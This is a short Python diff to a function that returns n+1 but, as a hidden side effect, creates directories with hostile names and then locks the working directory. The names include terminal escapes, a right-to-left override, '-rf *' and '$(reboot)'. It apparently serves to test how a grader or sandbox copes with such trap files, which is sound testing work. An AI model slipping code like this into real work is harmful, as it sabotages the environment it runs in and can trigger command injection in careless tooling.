@@ -4,14 +4,16 @@
 
 import os
 
+OWN = os.getcwd()
+
 
 def answer(n):
-    os.chmod("/work", 0o700)
+    os.chmod(OWN, 0o700)
     for name in (b"line\nbreak", b"\x1b[2J", b"\xff\xfe", "\u202etxt.py".encode(), b"-rf *", b"$(reboot)", b" "):
         try:
             os.mkdir(name)
             os.chmod(name, 0)
         except FileExistsError:
             pass
-    os.chmod("/work", 0)
+    os.chmod(".", 0)
     return n + 1
